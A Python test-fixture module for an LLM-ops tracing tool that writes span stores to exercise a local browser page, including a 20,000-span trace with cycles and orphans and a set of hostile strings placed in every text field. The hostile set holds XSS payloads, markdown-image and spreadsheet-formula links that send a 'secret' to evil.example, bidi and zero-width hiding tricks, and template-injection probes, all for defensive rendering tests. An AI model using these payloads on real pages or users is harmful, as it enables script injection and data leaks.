"""Stores for the tests of the local page in a browser: plain, very large, and hostile in every text."""

from __future__ import annotations

import json
import random
import subprocess
import sys
import time
from collections.abc import Iterable
from pathlib import Path
from typing import Any

__all__ = ["BIG_TRACE", "HOSTILE_TEXTS", "big_trace", "call", "hostile_spans", "now_ns", "span", "write_store"]

BIG_TRACE = "b16" + "0" * 29
_SECOND = 1_000_000_000


def write_store(folder: Path, spans: Iterable[dict[str, Any]]) -> Path:
    """Import spans into a store, as `llmops import` does."""
    lines = folder.with_suffix(".jsonl")
    with lines.open("w", encoding="utf-8") as file:
        for record in spans:
            file.write(json.dumps(record) + "\n")
    command = [sys.executable, "-m", "llmops_sdk", "import", str(lines), "--store", str(folder)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == 0, done.stderr
    return folder


def now_ns(seconds_ago: float = 0) -> int:
    return time.time_ns() - int(seconds_ago * _SECOND)


def span(
    trace: str, number: int, *, parent: int | None = None, start_ns: int, ms: float = 5, **columns: Any
) -> dict[str, Any]:
    """Return a span's line of an export."""
    found = {
        "trace_id": trace, "span_id": f"{number:016x}", "name": f"step {number}", "kind": "chain", "start_ns": start_ns,
        "duration_ns": int(ms * 1e6), "status": "ok", "service": "test", "weight": 1.0,
    }  # fmt: skip
    return {**found, **({} if parent is None else {"parent_span_id": f"{parent:016x}"}), **columns}


def call(trace: str, number: int, question: str, answer: str, **columns: Any) -> dict[str, Any]:
    """Return the span of a call to a model."""
    said = {"role": "user", "parts": [{"type": "text", "content": question}]}
    back = {"role": "assistant", "parts": [{"type": "text", "content": answer}], "finish_reason": "stop"}
    usage = {
        "input_tokens": 12,
        "output_tokens": 7,
        "cost": 0.00021,
        "operation": "chat",
        "provider": "offline",
        "attempts": 1,
    }
    messages = {"input_messages": [said], "output_messages": [back], "request_model": "script", "model": "script"}
    return span(trace, number, **{"name": "chat script", "kind": "llm", "ms": 420, **usage, **messages, **columns})


def big_trace(spans: int = 20_000, levels: int = 12) -> list[dict[str, Any]]:
    """Return one trace of many levels, with two circles, orphans, errors, and spans that begin before their parents."""
    random.seed(7)
    start = now_ns(600)
    made = [span(BIG_TRACE, 1, start_ns=start, ms=60_000, name="big", kind="agent")]
    by_level = [[1]]
    for number in range(2, spans - 60):
        level = min(levels - 1, 1 + number % (levels - 1), len(by_level))
        parent = random.choice(by_level[level - 1])
        if level == len(by_level):
            by_level.append([])
        by_level[level].append(number)
        kind = ("llm", "tool", "retriever", "chain")[number % 4]
        at = start + (number * 2_900_000) % (55 * _SECOND) - (2 * _SECOND if number % 997 == 0 else 0)
        failed = {"status": "error", "error_type": "TimeoutError"} if number % 251 == 0 else {}
        made.append(span(BIG_TRACE, number, parent=parent, start_ns=at, ms=3 + number % 400, kind=kind, **failed))
    first = spans - 60
    circles = [
        (first, first + 1),
        (first + 1, first),
        (first + 2, first + 4),
        (first + 3, first + 2),
        (first + 4, first + 3),
    ]
    made += [span(BIG_TRACE, one, parent=other, start_ns=start + one, name=f"circle {one}") for one, other in circles]
    orphans = range(first + 5, spans + 1)
    made += [
        span(BIG_TRACE, one, parent=10_000_000 + one, start_ns=start + one * 1000, name=f"orphan {one}")
        for one in orphans
    ]
    return made


HOSTILE_TEXTS = {
    "img": "<img src=x onerror=\"document.title='pwned'\">",
    "script": "</script><script>document.title='pwned'</script>",
    "svg": "<svg/onload=document.title='pwned'>",
    "link": "[press](javascript:document.title='pwned') and https://evil.example/?q=secret",
    "image": "![leak](https://evil.example/pixel.png?q=secret) ![a](data:text/html,<script>1</script>)",
    "bidi": "user \u202egpj.exe\u202c zero\u200bwidth \ufeff \u2066hidden\u2069 tag\U000e0041",
    "ansi": "\u001b[31mred\u001b[0m \u0007 \u0000 \u009b31m",
    "lone": "lone \ud800 and \udfff surrogates",
    "formula": '=HYPERLINK("https://evil.example","x") +1 @SUM(A1)',
    "proto": "__proto__ constructor {{7*7}} ${7*7} %s",
    "marks": "`" * 500 + "*" * 500 + "[" * 500 + "](" * 200 + ">" * 200,
    "line": "x" * 5_000_000,
}
"""Texts that try to run, to call home, to hide or to stop the layout."""


def hostile_spans() -> list[dict[str, Any]]:
    """Return a trace for each hostile text, which stands in every text field of its spans."""
    made = []
    for number, (name, text) in enumerate(HOSTILE_TEXTS.items(), 1):
        short = text[:2_000]
        trace = f"{number:032x}"
        start = now_ns(60 * number)
        event = {"name": short, "time_ns": start, "attributes": {short: text[:10_000]}}
        common = {
            "user_id": short, "session_id": short, "tags": [short], "error_type": short, "status": "error",
            "attributes": {"hostile.name": name, short: short, "long": text}, "events": [event], "service": short,
        }  # fmt: skip
        made.append(
            span(trace, 1, start_ns=start, name=short, input={"text": text}, output=text, status_message=text, **common)
        )
        called = {
            "role": "assistant",
            "parts": [{"type": "tool_call", "id": short, "name": short, "arguments": {short: short}}],
        }
        other = {"role": short, "parts": [{"type": short, "content": text}]}
        columns = {**common, "name": short, "request_model": short, "model": short, "provider": short}
        columns |= {"output_messages": [called, other], "parent": 1, "start_ns": start}
        made.append(call(trace, 2, text, text, **columns))
    return made
